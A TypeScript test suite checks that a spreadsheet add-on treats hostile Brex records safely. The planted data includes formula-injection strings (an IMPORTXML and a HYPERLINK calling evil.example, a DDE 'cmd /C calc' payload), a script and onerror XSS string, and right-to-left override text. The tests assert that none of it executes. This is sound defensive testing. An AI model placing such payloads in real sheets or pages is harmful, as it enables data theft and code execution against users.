/**
 * Hostile data from Brex: formula-looking strings, HTML in names the sidebar shows, text longer
 * than a cell holds, unicode and right-to-left text, enum values and fields Brex adds later, null
 * where Brex promises a value, and a page whose cursor repeats. Planted through the sandbox's
 * control API, synced by the built bundle, and shown by the built sidebar.
 */
import type { Sandbox } from '../../dev/sandbox';
import type { Runtime } from '../../dev/runtime';
import type { Cell } from '../../dev/runtime/workbook';
import { openSidebar } from './support/sidebar-page';
import {
  connectedRuntime,
  control,
  expectedIds,
  idColumn,
  OWNER,
  refreshUntilDone,
  smallSandbox,
} from '../support/world';
import type { RefreshSummary } from '../../src/sync/refresh';

const FORMULAS = [
  '=IMPORTXML("http://evil.example/x","//a")',
  '=HYPERLINK("http://evil.example","Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
];
const SCRIPT = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2">';
const UNICODE = 'שלום مرحبا \u202Eevil\u202C 👩‍👩‍👧 Ünïcødé 漢字';
const LONG = 'L'.repeat(60_000);
const CELL_CHARS = 50_000;

function plant(sandbox: Sandbox, list: string, id: string, fields: Record<string, unknown>) {
  control(sandbox, 'PUT', `/records/${list}/${encodeURIComponent(id)}`, fields);
}

function allCells(runtime: Runtime): { sheet: string; cell: Cell }[] {
  return runtime.workbook.sheets.flatMap((sheet) =>
    sheet.rows.flatMap((cells) =>
      (cells ?? []).filter(Boolean).map((cell) => ({ sheet: sheet.name, cell: cell as Cell })),
    ),
  );
}

describe('hostile data from Brex', () => {
  let sandbox: Sandbox;
  let runtime: Runtime;
  let summary: RefreshSummary;

  beforeAll(async () => {
    sandbox = await smallSandbox('hostile-data');
    const state = sandbox.snapshot();
    const [me, second, third] = state.users;
    plant(sandbox, 'users', me?.id ?? '', { first_name: SCRIPT, last_name: FORMULAS[0] });
    plant(sandbox, 'users', second?.id ?? '', { email: null, favourite_colour: 'teal' });
    plant(sandbox, 'users', third?.id ?? '', { first_name: UNICODE, status: 'ON_SABBATICAL' });
    plant(sandbox, 'departments', state.departments[0]?.id ?? '', { name: FORMULAS[1] });
    plant(sandbox, 'departments', state.departments[1]?.id ?? '', { name: null });
    plant(sandbox, 'locations', state.locations[0]?.id ?? '', { name: FORMULAS[2] });
    plant(sandbox, 'cards', state.cards[0]?.id ?? '', { card_name: FORMULAS[3], status: 'MELTED' });
    plant(sandbox, 'vendors', state.vendors[0]?.id ?? '', { company_name: FORMULAS[4] });
    plant(sandbox, 'spend_limits', state.spend_limits[0]?.id ?? '', { name: SCRIPT });
    plant(sandbox, 'spend_limits', state.spend_limits[1]?.id ?? '', { name: UNICODE });
    const [t0, t1, t2] = state.card_transactions;
    plant(sandbox, 'card_transactions', t0?.id ?? '', { description: LONG });
    plant(sandbox, 'card_transactions', t1?.id ?? '', { description: FORMULAS[5], amount: null });
    plant(sandbox, 'card_transactions', t2?.id ?? '', { type: 'TIME_TRAVEL', new_field: {} });
    plant(sandbox, 'expenses', state.expenses[0]?.id ?? '', { memo: LONG, status: 'SHREDDED' });
    runtime = await connectedRuntime(sandbox);
    summary = await refreshUntilDone(runtime, { as: OWNER, maxCalls: 10 });
  });

  afterAll(async () => {
    await sandbox.close();
  });

  it('syncs every data set, every record in its sheet', () => {
    expect(summary.dataSets.filter((d) => d.state !== 'ok')).toEqual([]);
    for (const [sheet, ids] of Object.entries(expectedIds(sandbox))) {
      expect({ sheet, ids: idColumn(runtime, sheet).sort() }).toEqual({ sheet, ids: ids.sort() });
    }
  });

  it('keeps every formula-looking string as plain text, never a formula', () => {
    const cells = allCells(runtime);
    for (const text of [...FORMULAS.slice(1), `${SCRIPT} ${FORMULAS[0]}`]) {
      const holding = cells.filter(({ cell }) => cell.value === text);
      expect({ text, found: holding.length > 0 }).toEqual({ text, found: true });
      for (const { cell } of holding) expect([cell.formula, cell.format]).toEqual([undefined, '@']);
    }
    expect(cells.filter(({ cell }) => cell.formula !== undefined)).toEqual([]);
  });

  it('cuts text longer than a cell holds to the cell limit, saying so at its end', () => {
    const long = allCells(runtime).filter(({ cell }) => String(cell.value).startsWith('LLLL'));
    expect(long.map(({ sheet }) => sheet).sort()).toEqual([
      'Brex Card Transactions',
      'Brex Expenses',
    ]);
    for (const { cell } of long) {
      expect(String(cell.value)).toHaveLength(CELL_CHARS);
      expect(String(cell.value)).toMatch(/L… \(cut: 60000 characters in Brex\)$/);
    }
  });

  it('keeps unicode and right-to-left text exactly, and shows enum values Brex adds later', () => {
    const values = allCells(runtime).map(({ cell }) => cell.value);
    expect(values).toContain(UNICODE);
    expect(values.some((v) => String(v).startsWith(UNICODE))).toBe(true);
    for (const added of ['MELTED', 'ON_SABBATICAL', 'TIME_TRAVEL', 'SHREDDED']) {
      expect(values).toContain(added);
    }
  });

  it('shows HTML in names as text in the sidebar, running none of it', async () => {
    const limit = sandbox.snapshot().spend_limits[0];
    const grid = runtime.values('Brex Spend Limits');
    const key = (grid[0] ?? []).indexOf('Brex ID');
    const row = grid.findIndex((cells) => cells[key] === limit?.id);
    const column = (grid[0] ?? []).indexOf('Base limit');
    await runtime.edit(`Brex Spend Limits!${String.fromCharCode(65 + column)}${row + 1}`, 7, {
      as: OWNER,
    });

    const page = await openSidebar(runtime, OWNER);
    try {
      const { document } = page.dom.window;
      const text = document.body.textContent ?? '';
      expect(text).toContain(`${SCRIPT} ${FORMULAS[0]}`);
      expect(text).toContain(SCRIPT);
      expect((page.dom.window as unknown as { pwned?: number }).pwned).toBeUndefined();
      expect(document.querySelectorAll('img, iframe, object, embed')).toHaveLength(0);
      expect(document.querySelectorAll('body script')).toHaveLength(
        document.querySelectorAll('script').length,
      );
      expect([...document.querySelectorAll('*')].filter((e) => e.hasAttribute('onerror'))).toEqual(
        [],
      );
    } finally {
      page.close();
    }
  });

  it('stops paging at a cursor Brex repeats, names the problem, and duplicates nothing', async () => {
    // More changed expenses than one page (100) holds.
    control(sandbox, 'POST', '/card-transactions', { count: 150 });
    control(sandbox, 'PUT', '/repeat-cursor', { paths: ['/v1/expenses'] });

    const looped = await refreshUntilDone(runtime, { as: OWNER, maxCalls: 10 });

    const expenses = looped.dataSets.find((d) => d.id === 'expenses');
    expect(expenses?.state).toBe('error');
    expect(expenses?.message).toMatch(/cursor.*\. .+/i);
    const ids = idColumn(runtime, 'Brex Expenses');
    expect(new Set(ids).size).toBe(ids.length);
    control(sandbox, 'PUT', '/repeat-cursor', { paths: [] });
    const healed = await refreshUntilDone(runtime, { as: OWNER, maxCalls: 10 });
    expect(healed.dataSets.filter((d) => d.state !== 'ok')).toEqual([]);
    expect(idColumn(runtime, 'Brex Expenses').sort()).toEqual(
      sandbox
        .snapshot()
        .expenses.map((e) => e.id)
        .sort(),
    );
  });
});
